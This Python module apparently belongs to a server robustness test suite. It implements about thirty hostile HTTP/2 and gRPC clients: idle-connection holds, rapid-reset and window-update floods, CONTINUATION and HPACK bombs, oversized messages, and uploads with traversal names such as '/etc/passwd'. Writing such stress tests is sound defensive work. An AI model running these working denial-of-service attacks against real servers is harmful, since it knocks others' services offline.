"""What hostile clients do, one function an attack: each holds or floods the door for some seconds and ends. A process of its own
runs it, so that it takes no time of the well-behaved client's.

    python3 attacks.py NAME DOOR_AS_JSON SECONDS

An attack goes on whatever the server answers; a closed connection is opened anew, at most RECONNECTS times a second.
"""

import contextlib
import random
import resource
import ssl
import struct
import sys
import threading
import time

from attend_testing.doors import Door
from attend_testing.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    data_frames,
    frame,
    headers_frame,
    message,
)

METHOD = "/attend.v1.AttentionService/ScaledDotProductAttention"
STREAM = "/attend.v1.AttentionService/StreamAttend"
CREATE = "/attend.v1.LayerService/CreateLayer"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
PRIORITY, CONTINUATION = 2, 9
MIB = 1 << 20
RECONNECTS = 50


def varint(value):
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes((value,))


def field(number, payload):
    """A length-delimited field of protobuf."""
    return varint(number << 3 | 2) + varint(len(payload)) + payload


class Attack:
    """Until when, and where. Its methods are for the functions below."""

    def __init__(self, door, seconds):
        self.door, self.end = door, time.monotonic() + seconds

    def going_on(self):
        return time.monotonic() < self.end

    def hold(self):
        time.sleep(max(0, self.end - time.monotonic()))

    def on_connections(self, count, behave, greet=True):
        """`behave(connection)` on so many connections at a time, each on a thread, opened anew when it was closed."""

        def run():
            while self.going_on():
                with contextlib.suppress(OSError, ssl.SSLError):
                    connection = (self.door.greet if greet else self.door.connect)(timeout=5)
                    with connection:
                        behave(connection)
                time.sleep(count / RECONNECTS)

        threads = [threading.Thread(target=run, daemon=True) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.end - time.monotonic()) + 6)

    def flood(self, connections, payload, before=b""):
        """`payload` again and again; nothing is read."""

        def behave(connection):
            connection.sendall(before)
            while self.going_on():
                connection.sendall(payload)

        self.on_connections(connections, behave)

    def hold_open(self, connections, hello, greet=True):
        """Connections that say `hello` and then nothing."""
        opened = []
        for _ in range(connections):
            if not self.going_on():
                break
            with contextlib.suppress(OSError, ssl.SSLError):
                connection = (self.door.greet if greet else self.door.connect_tcp)(timeout=5)
                opened.append(connection)
                connection.sendall(hello)
        self.hold()
        for connection in opened:
            connection.close()


# Connections that do little.


def idle_tcp(attack):
    attack.hold_open(500, b"", greet=False)


def preface_only(attack):
    attack.hold_open(500, PREFACE, greet=False)


def half_a_preface(attack):
    attack.hold_open(500, PREFACE[:10], greet=False)


def ten_thousand_idle(attack):
    attack.hold_open(10000, b"", greet=False)


def slow_upload(attack):
    """One byte a second on each of 200 connections."""
    body = iter(lambda: data_frames(1, b"\0"), None)

    def behave(connection):
        connection.sendall(headers_frame(1, METHOD))
        while attack.going_on():
            connection.sendall(next(body))
            time.sleep(1)

    attack.on_connections(200, behave)


def headers_only(attack):
    """Calls without a message: 256 on each of 100 connections."""
    attack.hold_open(100, b"".join(headers_frame(2 * i + 1, METHOD) for i in range(256)))


def unfinished_headers(attack):
    """Headers that stop in the middle, on 3000 connections: 4 KiB, nearly all of it references to one entry of the table. Each looks
    like an honest connection that is idle."""
    attack.hold_open(3000, frame(HEADERS, 1, b"\x40\1a\1b" + b"\xbe" * 4096))


# Floods of frames.


def streams_with(attack, end):
    """Streams without number on one connection, each of headers and the frame that `end(stream)` makes."""

    def behave(connection):
        stream = 1
        while attack.going_on():
            connection.sendall(b"".join(headers_frame(i, METHOD) + end(i) for i in range(stream, stream + 400, 2)))
            stream += 400

    attack.on_connections(1, behave)


def rapid_reset(attack):
    streams_with(attack, lambda stream: frame(RST_STREAM, stream, bytes(4)))


def made_you_reset(attack):
    """Streams on which the server is made to send RST_STREAM: an update of a window by nothing."""
    streams_with(attack, lambda stream: frame(WINDOW_UPDATE, stream, bytes(4)))


def window_updates_of_a_stream(attack):
    attack.flood(4, frame(WINDOW_UPDATE, 1, struct.pack(">I", 1)) * 5000, headers_frame(1, METHOD))


def window_updates(attack):
    attack.flood(1, frame(WINDOW_UPDATE, 0, struct.pack(">I", 1)) * 5000)


def empty_data(attack):
    attack.flood(1, frame(DATA, 1) * 5000, headers_frame(1, METHOD))


def priorities(attack):
    attack.flood(1, frame(PRIORITY, 1, struct.pack(">IB", 0, 1)) * 5000, headers_frame(1, METHOD))


def pings(attack):
    attack.flood(4, frame(PING, 0, bytes(8)) * 5000)


def settings(attack):
    attack.flood(4, frame(SETTINGS) * 5000)


def unknown_frames(attack):
    attack.flood(4, frame(99, 0, bytes(64)) * 1000)


def continuations(attack):
    """Headers that never end."""
    start = frame(HEADERS, 1, b"\0\1a\1b")
    attack.flood(4, frame(CONTINUATION, 1, b"\0\1a\1b" * 100) * 100, start)


def hpack_table_bomb(attack):
    """One large entry of the table, named again and again: 8 KB on the wire are 15 MB of headers."""
    entry = b"\x40\x01a\x7f" + varint(3900 - 127) + b"x" * 3900
    block = headers_frame(1, METHOD)[9:] + entry + b"\xbe" * 4000

    def behave(connection):
        stream = 1
        while attack.going_on():
            connection.sendall(frame(HEADERS, stream, block, END_HEADERS | END_STREAM))
            stream += 2

    attack.on_connections(4, behave)


def hpack_string(attack):
    """A header of 1 GiB, announced and sent at 4 MB a second."""
    start = frame(HEADERS, 1, b"\0\x7f" + varint((1 << 30) - 127))
    piece = frame(CONTINUATION, 1, b"x" * 16384)

    def behave(connection):
        connection.sendall(start)
        while attack.going_on():
            connection.sendall(piece)
            time.sleep(0.004)

    attack.on_connections(1, behave)


def hpack_varint(attack):
    """A number that never ends."""
    attack.flood(4, frame(CONTINUATION, 1, b"\x80" * 16384), frame(HEADERS, 1, b"\0\x7f"))


def tiny_data_frames(attack):
    """A message of 60 MiB, a byte a frame."""
    announced = frame(DATA, 1, b"\0" + struct.pack(">I", 60 * MIB))
    attack.flood(4, frame(DATA, 1, b"x") * 6000, headers_frame(1, METHOD) + announced)


def odd_headers(attack):
    choices = [("te", "x"), ("te", ""), (":scheme", "ftp"), ("grpc-timeout", "99999999999H"), ("grpc-encoding", "x"),
               ("bad-bin", "!!"), ("content-type", "text/html"), ("authorization", "Bearer"), ("connection", "close"), (":path", "*"),
               ("x" * 100, "y" * 100)]  # fmt: skip
    source = random.Random(1)

    def behave(connection):
        connection.sendall(headers_frame(1, METHOD, end_stream=True, metadata=source.sample(choices, 3)))
        time.sleep(0.02)

    attack.on_connections(4, behave)


# Messages.


def announced_4_gib(attack):
    """And 64 MiB of it sent, on eight connections."""

    def behave(connection):
        connection.sendall(headers_frame(1, METHOD) + frame(DATA, 1, b"\0\xff\xff\xff\xff"))
        for _ in range(4096):
            if not attack.going_on():
                return
            connection.sendall(frame(DATA, 1, bytes(16384)))

    attack.on_connections(8, behave)


def compressed_bomb(attack):
    """A message marked as compressed with gzip."""
    payload = b"\1" + struct.pack(">I", 1000) + bytes(1000)

    def behave(connection):
        for stream in range(1, 2000, 2):
            head = headers_frame(stream, METHOD, metadata=(("grpc-encoding", "gzip"),))
            connection.sendall(head + frame(DATA, stream, payload, END_STREAM))

    attack.on_connections(2, behave)


def impossible_messages(attack):
    """Shapes of 2^40 elements, and bytes that are no message."""
    huge = field(1, field(2, varint(1 << 40)) + field(3, b"x"))
    source = random.Random(2)

    def behave(connection):
        for stream in range(1, 400, 2):
            body = huge if stream % 4 == 1 else source.randbytes(200)
            connection.sendall(headers_frame(stream, METHOD) + frame(DATA, stream, message(body), END_STREAM))
            time.sleep(0.002)

    attack.on_connections(4, behave)


def fragmented_stream_message(attack):
    """The field `attend` in pieces of one byte, 16 MiB of them."""
    body = message(b"\x1a\x01\x0a" * (16 * MIB // 3))
    frames = data_frames(1, body)

    def behave(connection):
        connection.sendall(headers_frame(1, STREAM))
        for start in range(0, len(frames), 1 << 20):
            if not attack.going_on():
                return
            connection.sendall(frames[start : start + (1 << 20)])
        time.sleep(0.5)

    attack.on_connections(2, behave)


def unread_answers(attack):
    """Calls whose answers are 4 MiB, with a window of nothing to send them in."""
    tokens = 1024
    tensor = field(2, varint(tokens) + varint(1)) + field(3, bytes(4 * tokens))
    body = message(field(1, tensor) + field(2, tensor) + field(3, tensor) + field(5, b"\2"))

    def behave(connection):
        connection.sendall(headers_frame(1, METHOD) + data_frames(1, body))
        attack.hold()

    attack.on_connections(26, behave)


def unread_reflection(attack):
    """A question on each of 256 streams of 20 connections; nobody reads the answers."""
    question = message(field(1, b"h" * 3000) + field(4, b"attend.v1.AttentionService"))
    block = b"".join(headers_frame(i, REFLECTION) + data_frames(i, question) for i in range(1, 512, 2))
    attack.on_connections(20, lambda connection: (connection.sendall(block), attack.hold()))


# Uploads. The field `header` of CreateLayerRequest is 1; `name` of it 1.


def uploads_without_bytes(attack):
    """Eight uploads that send a message without content now and then."""
    start = headers_frame(1, CREATE) + data_frames(1, message(field(1, field(1, b"slow"))))

    def behave(connection):
        connection.sendall(start)
        while attack.going_on():
            connection.sendall(data_frames(1, message(b"")))
            time.sleep(0.5)

    attack.on_connections(8, behave)


def many_uploads(attack):
    """A thousand uploads that begin and stop, with bad names among them."""
    names = [b"a", b"..", b"../x", b"/etc/passwd", b"", b"x" * 200, b"a\0b"]

    def behave(connection):
        for stream in range(1, 200, 2):
            if not attack.going_on():
                return
            body = message(field(1, field(1, names[stream // 2 % len(names)])))
            connection.sendall(headers_frame(stream, CREATE) + data_frames(stream, body))
        time.sleep(0.2)

    attack.on_connections(10, behave)


ATTACKS = {
    function.__name__: function
    for function in (
        idle_tcp, preface_only, half_a_preface, ten_thousand_idle, slow_upload, headers_only, rapid_reset, made_you_reset,
        window_updates_of_a_stream, window_updates, empty_data, priorities, pings, settings, unknown_frames, continuations,
        hpack_table_bomb, hpack_string, hpack_varint, tiny_data_frames, odd_headers, announced_4_gib, compressed_bomb,
        impossible_messages, fragmented_stream_message, uploads_without_bytes, many_uploads,
        unread_answers, unread_reflection, unfinished_headers,
    )
}  # fmt: skip


def main():
    name, door, seconds = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ATTACKS[name](Attack(Door.from_json(door), float(seconds)))


if __name__ == "__main__":
    main()
